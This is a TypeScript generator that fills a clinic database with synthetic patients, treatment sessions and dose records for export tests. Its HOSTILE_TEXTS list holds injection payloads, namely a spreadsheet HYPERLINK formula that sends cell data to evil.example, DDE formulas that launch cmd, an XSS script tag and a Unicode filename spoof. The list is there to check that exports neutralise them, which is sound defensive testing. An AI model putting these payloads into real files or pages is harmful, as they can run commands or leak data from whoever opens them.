// A synthetic clinic written straight into the real schema (the migrations of every area), for export
// tests and the export benchmark. Default size is a busy year: 4 rooms (one gun each), 20 sessions a
// room a day, 300 days, 200 shots a session = 24,000 sessions and 4.8 million dose records. Fast by
// construction: one transaction, prepared statements, synchronous=OFF for this connection only (a
// generator has nothing to lose to a power cut; the station itself never runs like that).
// Deterministic for a given seed. Tests use a few days; `hostile` puts formula, HTML, very long and
// odd-Unicode text into names, notes and reasons.
import { MACHINE_VERSION, type SessionContext } from '../../electron/core/sessions/machine.js';
import type { Db } from '../../electron/core/storage/db.js';
import { ZONES, type SessionStatus, type Zone } from '../../electron/contract/sessions.js';
import type { QualityMetric } from '../../electron/contract/quality.js';
import type { ReasonUse } from '../../electron/contract/reasonCodes.js';

export interface ClinicOptions {
  rooms?: number;
  sessionsPerRoomPerDay?: number;
  days?: number;
  shotsPerSession?: number;
  patients?: number;
  clinicians?: number;
  /** First clinic day, local midnight is used. */
  startDate?: string;
  seed?: number;
  /** Put hostile text into the first patients' names and into notes and reasons. */
  hostile?: boolean;
  /** Leave the very last session in progress (the station allows one). */
  lastInProgress?: boolean;
  /** Dose records fired with no session armed, spread over the period. */
  unattributedShots?: number;
  /**
   * Reshapes a session before it is written (n counts sessions from 1): records the filters must
   * tell apart, which the ledger's triggers forbid making afterwards (records are never edited).
   */
  adjust?: (n: number, plan: SessionPlan, clinic: { lots: ClinicSummary['lots']; guns: string[] }) => void;
  /**
   * Plant the quality review's events besides the usual limit events: thermotherapy skipped (every
   * 41st session) or shortened (every 23rd), hard stops at a zone (every 61st), arming refused at a
   * hard limit (every 71st), interruptions (every 67th), coded reasons on overrides, skips, shortenings
   * and aborts, and a plain completed steam stage everywhere else. The summary's `plan` lists them.
   */
  quality?: boolean;
}

/** A session as the generator is about to write it; `adjust` may change any of it. */
export interface SessionPlan {
  startedAt: number;
  status: SessionStatus;
  /** 0: aborted before the first shot. */
  shots: number;
  /** The lot loaded last: the one the session row names. */
  lot: ClinicSummary['lots'][number];
  /** Doses from this shot on (0-based) come from another vial; the row then names `lot`, the second. */
  firstLot: { lot: ClinicSummary['lots'][number]; shots: number } | null;
  /** Doses from this shot on come from another gun (a gun swapped mid-session). */
  secondGun: { serial: string; fromShot: number } | null;
}

/** A session as planted: who, which serum version, when, and its shots per zone. */
export interface PlannedSession {
  id: number;
  clinicianId: number;
  serumVersionId: number;
  startedAt: number;
  status: SessionStatus;
  shotsByZone: Partial<Record<Zone, number>>;
}

/** One event the quality dashboard counts, as planted (sessionId null: an unattributed dose, at its arrival). */
export interface PlannedEvent {
  metric: QualityMetric | 'abort';
  sessionId: number | null;
  zone: Zone | null;
  at: number;
  reason: { use: ReasonUse; code: string | null } | null;
}

export interface ClinicSummary {
  sessions: number;
  shots: number;
  unattributedShots: number;
  patients: number;
  clinicians: { id: number; username: string }[];
  guns: string[];
  lots: { id: number; lotNumber: string; serumVersionId: number; expiry: string }[];
  firstDay: string;
  lastDay: string;
  statuses: { signed: number; aborted: number; in_progress: number };
  /** What was planted, for tests that check the quality figures against it. */
  plan: { sessions: PlannedSession[]; events: PlannedEvent[] };
}

/** Strings no export may turn into a formula, markup, or a reordered line. */
export const HOSTILE_TEXTS = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  '+41 79 000 00 00',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  '<script>alert("x")</script><img src=x onerror=alert(1)>',
  'Ahmed \u202Egnp.exe\u202C Benali',
  'Zero\u200Bwidth\u200D\uFEFFjoiner',
  'Zoë 👩‍⚕️💉🧴 Ñandú',
  'Z\u0351\u0359a\u0300\u0301\u0302l\u0353\u0354g\u0308o\u0310',
  'Quote " comma , semicolon ; newline\nand\r\nCRLF',
  'x'.repeat(10_000),
] as const;

/** A small fast PRNG (mulberry32): same seed, same clinic. */
export function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const FIRST = ['Anna', 'Marco', 'Sofia', 'Luca', 'Giulia', 'Paolo', 'Elena', 'Jonas', 'Maria', 'Pierre', 'Chloé', 'Jürgen', 'Ines', 'Noah', 'Lea', 'Omar'];
const LAST = ['Rossi', 'Bianchi', 'Müller', 'Dubois', 'García', 'Novak', 'Kowalski', 'Jensen', 'Silva', 'Nowak', 'Conti', 'Weber', 'Moreau', 'Lindqvist'];
const MODES = ['papule', 'nappage', 'micropapule', 'retrograde'] as const;
const FAULTS = ['occlusion', 'airInLine', 'reservoirLow', 'driveBlocked'] as const;
const SYNTHETIC_MAC = new Uint8Array(32).fill(0xa5);
const SYNTHETIC_KEY_ID = '5a5a5a5a5a5a5a5a';
/** Coded reasons planted in turn (all installed by migration 500). */
const OVERRIDE_CODES = ['clinical-judgement', 'course-protocol', 'sparse-area'] as const;
const SKIP_CODES = ['patient-request', 'scalp-condition', 'equipment-unavailable'] as const;
const SHORTEN_CODES = ['patient-discomfort', 'patient-request'] as const;
const ABORT_CODES = ['patient-unwell', 'adverse-reaction', 'device-fault', 'other'] as const;

function isoDay(ms: number): string {
  const d = new Date(ms);
  return `${d.getFullYear()}-${String(d.getMonth() + 1).padStart(2, '0')}-${String(d.getDate()).padStart(2, '0')}`;
}

export function generateClinic(db: Db, opts: ClinicOptions = {}): ClinicSummary {
  const rooms = opts.rooms ?? 4;
  const perDay = opts.sessionsPerRoomPerDay ?? 20;
  const days = opts.days ?? 300;
  const shots = opts.shotsPerSession ?? 200;
  const patientCount = opts.patients ?? Math.max(10, Math.round((rooms * perDay * days) / 12));
  const clinicianCount = opts.clinicians ?? rooms * 2;
  const rnd = prng(opts.seed ?? 1);
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rnd() * xs.length)]!;
  const [sy, sm, sd] = (opts.startDate ?? '2025-01-06').split('-').map(Number) as [number, number, number];
  const nowIso = new Date(sy, sm - 1, sd).toISOString();

  db.pragma('synchronous = OFF');
  db.pragma('cache_size = -262144');
  db.exec('BEGIN IMMEDIATE');
  try {
    // Staff. The hash is not a valid scrypt string: nobody can log in as a synthetic user.
    const insUser = db.prepare(
      `INSERT INTO users (username, display_name, role, password_hash, created_at, password_changed_at) VALUES (?, ?, ?, 'synthetic:no-login', ?, ?)`,
    );
    const clinicians: { id: number; username: string; display: string }[] = [];
    for (let i = 0; i < clinicianCount; i++) {
      const username = `clin${String(i + 1).padStart(2, '0')}`;
      const display = `Dr. ${FIRST[i % FIRST.length]} ${LAST[(i * 3) % LAST.length]}`;
      const r = insUser.run(username, display, 'clinician', nowIso, nowIso);
      clinicians.push({ id: Number(r.lastInsertRowid), username, display });
    }
    const supervisorId = Number(insUser.run('supervisor', 'Dr. Sam Supervisor', 'clinician', nowIso, nowIso).lastInsertRowid);

    // Patients; with `hostile`, the first ones carry the nasty strings as names.
    const insPatient = db.prepare(`INSERT INTO patients (full_name, birth_date, clinic_id, sex, phone, email, preferred_language, created_at, updated_at) VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?)`);
    const patientIds: number[] = [];
    for (let i = 0; i < patientCount; i++) {
      const hostile = opts.hostile && i < HOSTILE_TEXTS.length ? HOSTILE_TEXTS[i]! : null;
      const name = hostile ?? `${pick(FIRST)} ${pick(LAST)}`;
      const birth = `${1950 + Math.floor(rnd() * 50)}-${String(1 + Math.floor(rnd() * 12)).padStart(2, '0')}-${String(1 + Math.floor(rnd() * 28)).padStart(2, '0')}`;
      const clinicId = hostile && i % 2 === 0 ? `=CL-${i}` : `CL-${String(i + 1).padStart(6, '0')}`;
      const sex = pick(['female', 'male', 'other']);
      // Contact details without the random stream, so the clinic's other figures stay as they were.
      const r = insPatient.run(name, birth, clinicId, sex, `+90532${String(1_000_000 + i)}`, `patient${i + 1}@clinic.example`, (['en', 'tr', 'es'] as const)[i % 3], nowIso, nowIso);
      patientIds.push(Number(r.lastInsertRowid));
    }

    // Serums come from the seeded library (migration 201); lots are ours, two per serum version.
    const versions = db.prepare('SELECT v.id, v.serum_id, v.name FROM serum_versions v ORDER BY v.id').all() as { id: number; serum_id: number; name: string }[];
    if (versions.length === 0) throw new Error('the serum library is empty: migration 201 should have seeded it');
    const insLot = db.prepare('INSERT INTO serum_lots (serum_id, lot_number, expiry_date, recorded_by_id, recorded_by_name, recorded_at) VALUES (?, ?, ?, ?, ?, ?)');
    const lots: ClinicSummary['lots'] = [];
    for (const v of versions)
      for (let k = 0; k < 2; k++) {
        const lotNumber = `LOT-${v.serum_id}${String.fromCharCode(65 + k)}-${2400 + v.id * 7 + k}`;
        const expiry = `${sy + 2}-0${k + 3}-28`;
        const r = insLot.run(v.serum_id, lotNumber, expiry, clinicians[0]!.id, clinicians[0]!.display, nowIso);
        lots.push({ id: Number(r.lastInsertRowid), lotNumber, serumVersionId: v.id, expiry });
      }

    const guns = Array.from({ length: rooms }, (_, i) => `MG-${sy}-${String(1001 + i)}`);
    const gunModels = ['MesoGun S2', 'MesoGun S2', 'MesoGun S3 Pro', 'MesoGun S2'];
    const recordIds = new Map(guns.map((g) => [g, 0]));

    const insSession = db.prepare(
      `INSERT INTO clinical_sessions (id, patient_id, course_id, clinician_user_id, clinician_username, clinician_display_name, status, phase, step,
         started_at, updated_at, ended_at, serum_version_id, lot_id, lot_number, gun_serial, machine_version, snapshot)
       VALUES (?, ?, NULL, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)`,
    );
    let lastSessionId = (db.prepare('SELECT coalesce(max(id), 0) FROM clinical_sessions').raw().get() as [number])[0];
    const insSig = db.prepare('INSERT INTO session_signatures (session_id, user_id, username, display_name, meaning, signed_at) VALUES (?, ?, ?, ?, ?, ?)');
    const insArm = db.prepare(
      'INSERT INTO arm_windows (session_id, zone, gun_serial, after_record_id, through_record_id, armed_at, disarmed_at, disarm_reason) VALUES (?, ?, ?, ?, ?, ?, ?, ?)',
    );
    const insDose = db.prepare(
      `INSERT INTO dose_records (gun_serial, record_id, session_id, arm_window_id, zone, serum_version_id, lot_id, lot_number, clinician_user_id,
         unattributed_reason, gun_started_at_ms, gun_ended_at_ms, received_at_ms, committed_at_ms, commanded_nl, delivered_nl, depth_um,
         entry_pct, dwell_pct, exit_pct, mode, fault, record_crc, record_mac, record_key_id, authenticated)
       VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)`,
    );
    const insLimitCoded = db.prepare(
      'INSERT INTO limit_events (session_id, at, kind, scope, zone, total_nl, limit_nl, reason, detail, user_id, reason_code) VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)',
    );
    const insLimit = { run: (...a: (string | number | null)[]) => insLimitCoded.run(...a, null) };
    const insAddendum = db.prepare('INSERT INTO session_addenda (session_id, at, user_id, username, text, reason) VALUES (?, ?, ?, ?, ?, ?)');
    const insStep = db.prepare('INSERT INTO session_steps (session_id, at, user_id, event, phase_before, phase_after, detail) VALUES (?, ?, ?, ?, ?, ?, ?)');
    const insInterruption = db.prepare('INSERT INTO session_interruptions (session_id, arm_window_id, kind, started_at, ended_at, held_at_start) VALUES (?, ?, ?, ?, ?, ?)');
    const planned: ClinicSummary['plan'] = { sessions: [], events: [] };
    const plant = (metric: PlannedEvent['metric'], sessionId: number | null, zone: Zone | null, at: number, reason: PlannedEvent['reason'] = null) =>
      planned.events.push({ metric, sessionId, zone, at, reason });

    const total = rooms * perDay * days;
    const unattributedEvery = opts.unattributedShots ? Math.max(1, Math.floor(total / opts.unattributedShots)) : 0;
    let unattributed = 0;
    let n = 0;
    let shotCount = 0;
    const statuses = { signed: 0, aborted: 0, in_progress: 0 };
    const hostileText = (k: number) => (opts.hostile ? HOSTILE_TEXTS[k % HOSTILE_TEXTS.length]! : null);

    for (let day = 0; day < days; day++) {
      const midnight = new Date(sy, sm - 1, sd + day).getTime();
      for (let slot = 0; slot < perDay; slot++)
        for (let room = 0; room < rooms; room++) {
          n++;
          const last = n === total;
          const drawnStatus: SessionStatus = last && opts.lastInProgress ? 'in_progress' : rnd() < 0.05 ? 'aborted' : 'signed';
          const gun = guns[room]!;
          const clinician = clinicians[(room * 2 + (slot % 2)) % clinicians.length]!;
          // Hostile clinics visit patients in turn, so every hostile name appears in a few sessions.
          const patientId = opts.hostile ? patientIds[(n - 1) % patientIds.length]! : patientIds[Math.floor(rnd() * patientIds.length)]!;
          const version = versions[n % versions.length]!;
          const drawnLot = lots.filter((l) => l.serumVersionId === version.id)[day % 60 < 30 ? 0 : 1]!;
          const plan: SessionPlan = {
            startedAt: midnight + 8 * 3_600_000 + slot * 30 * 60_000 + Math.floor(rnd() * 120_000),
            status: drawnStatus,
            shots,
            lot: drawnLot,
            firstLot: null,
            secondGun: null,
          };
          opts.adjust?.(n, plan, { lots, guns });
          const { status, lot } = plan;
          const t0 = plan.startedAt;
          const steamStart = t0 + 60_000;
          const steamEnd = steamStart + 600_000;
          const massageEnd = steamEnd + 300_000 + (n % 7 === 0 ? 30_000 : 0);
          const mesoStart = massageEnd + 120_000;
          const interval = Math.floor((15 * 60_000) / Math.max(1, plan.shots));
          const mesoEnd = mesoStart + plan.shots * interval;
          const closingAt = mesoEnd + 60_000;
          const endAt = status === 'in_progress' ? mesoEnd : closingAt + 120_000;
          const ctx: SessionContext = {
            sessionId: 0,
            intake: { at: t0, notes: hostileText(n + 3) ?? (n % 11 === 0 ? 'patient reports mild itching after last session' : null), warnings: [] },
            thermo: {
              steam: { plannedMs: 600_000, startedAt: steamStart, endedAt: steamEnd, pauses: [], checks: { 'cape-on': steamStart, 'steamer-ready': steamStart, 'patient-comfortable': steamStart }, shortened: null },
              massage: {
                plannedMs: 300_000,
                startedAt: steamEnd,
                endedAt: massageEnd,
                pauses: n % 7 === 0 ? [{ at: steamEnd + 100_000, resumedAt: steamEnd + 130_000 }] : [],
                checks: { 'all-zones': steamEnd, 'no-pain': steamEnd, 'scalp-ready': steamEnd },
                shortened: null,
              },
              skipped: null,
            },
            serum: { serumVersionId: version.id, name: version.name, lotId: lot.id, lotNumber: lot.lotNumber, expiry: lot.expiry },
            zoneTargetsNl: Object.fromEntries(ZONES.filter((z) => z !== 'occipital').map((z) => [z, 600_000])),
            needleConfirmedAt: massageEnd + 30_000,
            primedAt: massageEnd + 60_000,
            gun: { serial: gun, model: gunModels[room % gunModels.length]!, firmware: `2.${room}.${day % 3}`, simulated: false },
            profile: { doseNl: 20_000, entryPct: 0, dwellPct: 100, exitPct: 0, depthUm: 2_000, mode: 'papule', minIntervalMs: 500 },
            zone: null,
            armWindowId: null,
            closing: status === 'in_progress' ? null : { oilSerumApplied: true, aftercareGiven: status === 'signed' || n % 2 === 0, notes: hostileText(n) ?? 'no washing for 8 h, no sun for 48 h', at: closingAt },
            abort: status === 'aborted' ? { reason: hostileText(n + 1) ?? 'patient felt faint', at: closingAt + 30_000, phase: 'closing' } : null,
            signedAt: status === 'signed' ? endAt : null,
          };
          const phase = status === 'signed' ? 'signed' : status === 'aborted' ? 'aborted' : 'mesotherapy';
          const snapshot = { status: status === 'in_progress' ? 'active' : 'done', value: status === 'in_progress' ? { mesotherapy: 'disarmed' } : phase, historyValue: {}, context: ctx, children: {} };
          // The stored context names its session, so the id is chosen here rather than by SQLite.
          const sessionId = ++lastSessionId;
          insSession.run(
              sessionId,
              patientId,
              clinician.id,
              clinician.username,
              clinician.display,
              status,
              phase,
              status === 'in_progress' ? 'disarmed' : phase,
              t0,
              endAt,
              status === 'in_progress' ? null : endAt,
              version.id,
              lot.id,
              lot.lotNumber,
              gun,
              MACHINE_VERSION,
              JSON.stringify({ ...snapshot, context: { ...ctx, sessionId } }),
          );
          if (status === 'signed') {
            insSig.run(sessionId, clinician.id, clinician.username, clinician.display, 'performed', endAt - 60_000);
            if (n % 5 === 0) insSig.run(sessionId, supervisorId, 'supervisor', 'Dr. Sam Supervisor', 'reviewed', endAt);
          }
          statuses[status]++;

          // Shots: split evenly over the 7 treated zones (occipital is spared), one arm window each.
          const treated = ZONES.filter((z) => z !== 'occipital');
          const shotsByZone: Partial<Record<Zone, number>> = {};
          const armIds: number[] = [];
          let fired = 0;
          for (let zi = 0; zi < treated.length; zi++) {
            const zone = treated[zi]!;
            const inZone = Math.floor(plan.shots / treated.length) + (zi < plan.shots % treated.length ? 1 : 0);
            if (inZone === 0) continue;
            const after = recordIds.get(gun)!;
            const armedAt = mesoStart + fired * interval;
            const armId = Number(insArm.run(sessionId, zone, gun, after, after + inZone, armedAt, armedAt + inZone * interval, 'zone done').lastInsertRowid);
            armIds.push(armId);
            if (inZone > 0) shotsByZone[zone] = inZone;
            for (let k = 0; k < inZone; k++) {
              const doseGun = plan.secondGun && fired >= plan.secondGun.fromShot ? plan.secondGun.serial : gun;
              const doseLot = plan.firstLot && fired < plan.firstLot.shots ? plan.firstLot.lot : lot;
              const recordId = recordIds.get(doseGun)! + 1;
              recordIds.set(doseGun, recordId);
              const started = mesoStart + fired * interval;
              const fault = rnd() < 0.002 ? pick(FAULTS) : null;
              const commanded = 20_000;
              const delivered = fault ? Math.floor(commanded * rnd()) : commanded - 400 + Math.floor(rnd() * 800);
              insDose.run(
                doseGun,
                recordId,
                sessionId,
                armId,
                zone,
                version.id,
                doseLot.id,
                doseLot.lotNumber,
                clinician.id,
                null,
                started,
                started + 300,
                started + 340,
                started + 345,
                commanded,
                delivered,
                2_000 + (k % 3) * 100,
                0,
                100,
                0,
                MODES[n % 4 === 0 ? 1 : 0],
                fault,
                (recordId * 2654435761) >>> 0,
                // Provenance as a v3 link stores it; one record in 97 is kept unauthenticated (its MAC
                // failed on arrival), so exports show both. The bytes stand in for a MAC (never re-verified here).
                SYNTHETIC_MAC,
                SYNTHETIC_KEY_ID,
                recordId % 97 === 0 ? 0 : 1,
              );
              fired++;
            }
          }
          shotCount += fired;
          planned.sessions.push({ id: sessionId, clinicianId: clinician.id, serumVersionId: version.id, startedAt: t0, status, shotsByZone });
          // Limit events: a soft stop and its override now and then, rarer hard stops and near misses.
          if (n % 9 === 0) {
            insLimit.run(sessionId, mesoStart + 60_000, 'soft_stop', 'zone', 'vertex', 600_000, 600_000, null, 'zone soft maximum reached', null);
            const code = opts.quality ? OVERRIDE_CODES[(n / 9) % OVERRIDE_CODES.length]! : null;
            insLimitCoded.run(sessionId, mesoStart + 80_000, 'soft_ack', 'zone', 'vertex', 600_000, 600_000, hostileText(n + 2) ?? 'thin crown, per protocol', 'override acknowledged', clinician.id, code);
            plant('override', sessionId, 'vertex', mesoStart + 80_000, { use: 'override', code });
          }
          if (n % 97 === 0) {
            insLimit.run(sessionId, mesoStart + 120_000, 'hard_stop', 'session', null, 4_000_000, 4_000_000, null, 'session hard maximum reached', null);
            plant('hard_stop', sessionId, null, mesoStart + 120_000);
          }
          if (n % 53 === 0) {
            insLimit.run(sessionId, mesoStart + 30_000, 'near_miss', 'shot', 'frontal', 40_000, 50_000, null, 'dose within 20 % of the soft maximum', null);
            plant('near_miss', sessionId, 'frontal', mesoStart + 30_000);
          }
          if (opts.quality) {
            const admin = { id: supervisorId, username: 'supervisor' };
            if (n % 61 === 0) {
              const zone = treated[(n / 61) % treated.length]!;
              insLimit.run(sessionId, mesoStart + 150_000, 'hard_stop', 'zone', zone, 1_500_000, 1_500_000, null, 'zone hard maximum reached', null);
              plant('hard_stop', sessionId, zone, mesoStart + 150_000);
            }
            if (n % 71 === 0) {
              const zone = treated[(n / 71) % treated.length]!;
              insLimit.run(sessionId, mesoStart + 160_000, 'hard_block', 'zone', zone, 1_500_000, 1_500_000, null, 'arming refused at the zone hard maximum', clinician.id);
              plant('near_miss', sessionId, zone, mesoStart + 160_000);
            }
            if (n % 41 === 0) {
              const code = SKIP_CODES[(n / 41) % SKIP_CODES.length]!;
              const detail = { approvedBy: admin.username, approvedByUserId: admin.id, reasonCode: code, reasonText: code === 'equipment-unavailable' ? 'steamer descaling' : null };
              insStep.run(sessionId, steamStart, clinician.id, 'THERMO_SKIP', 'thermotherapy', 'preparation', JSON.stringify(detail));
              plant('thermo_cut', sessionId, null, steamStart, { use: 'skip', code });
            } else {
              insStep.run(sessionId, steamEnd, clinician.id, 'THERMO_COMPLETE', 'thermotherapy', 'thermotherapy', JSON.stringify({ stage: 'steam', outcome: 'completed', givenSeconds: 600, plannedSeconds: 600 }));
              if (n % 23 === 0) {
                const code = SHORTEN_CODES[(n / 23) % SHORTEN_CODES.length]!;
                const detail = { stage: 'massage', outcome: 'shortened', givenSeconds: 200, plannedSeconds: 300, approvedBy: admin.username, approvedByUserId: admin.id, reasonCode: code };
                insStep.run(sessionId, massageEnd, clinician.id, 'THERMO_COMPLETE', 'thermotherapy', 'preparation', JSON.stringify(detail));
                plant('thermo_cut', sessionId, null, massageEnd, { use: 'shorten', code });
              }
            }
            if (n % 67 === 0) {
              const at = mesoStart + 10_000;
              insInterruption.run(sessionId, armIds[0]!, n % 2 === 0 ? 'link-lost' : 'station-restart', at, at + 20_000, 3);
              plant('interruption', sessionId, treated[0]!, at);
            }
            if (status === 'aborted') {
              const code = ABORT_CODES[n % ABORT_CODES.length]!;
              insStep.run(sessionId, closingAt + 30_000, clinician.id, 'ABORT', 'closing', 'aborted', JSON.stringify({ reasonCode: code, reasonText: code === 'other' ? 'fire alarm' : null }));
              plant('abort', sessionId, null, closingAt + 30_000, { use: 'abort', code });
            }
          }
          if (opts.hostile && n % 4 === 0) insAddendum.run(sessionId, endAt + 3_600_000, clinician.id, clinician.username, hostileText(n + 5)!, hostileText(n + 6)!);
          if (unattributedEvery > 0 && n % unattributedEvery === 0) {
            const recordId = recordIds.get(gun)! + 1;
            recordIds.set(gun, recordId);
            const at = endAt + 10_000;
            // Stored before the authenticated link (no MAC): unauthenticated.
            insDose.run(gun, recordId, null, null, null, null, null, null, null, 'no session armed', at, at + 300, at + 340, at + 345, 20_000, 19_800, 2_000, 0, 100, 0, 'papule', null, recordId, null, null, 0);
            plant('unattributed', null, null, at + 340);
            unattributed++;
          }
        }
    }
    db.exec('COMMIT');
    return {
      sessions: n,
      shots: shotCount,
      unattributedShots: unattributed,
      patients: patientIds.length,
      clinicians: clinicians.map(({ id, username }) => ({ id, username })),
      guns,
      lots,
      firstDay: isoDay(new Date(sy, sm - 1, sd).getTime()),
      lastDay: isoDay(new Date(sy, sm - 1, sd + days - 1).getTime()),
      statuses,
      plan: planned,
    };
  } catch (e) {
    if (db.inTransaction) db.exec('ROLLBACK');
    throw e;
  } finally {
    db.pragma('synchronous = FULL');
  }
}
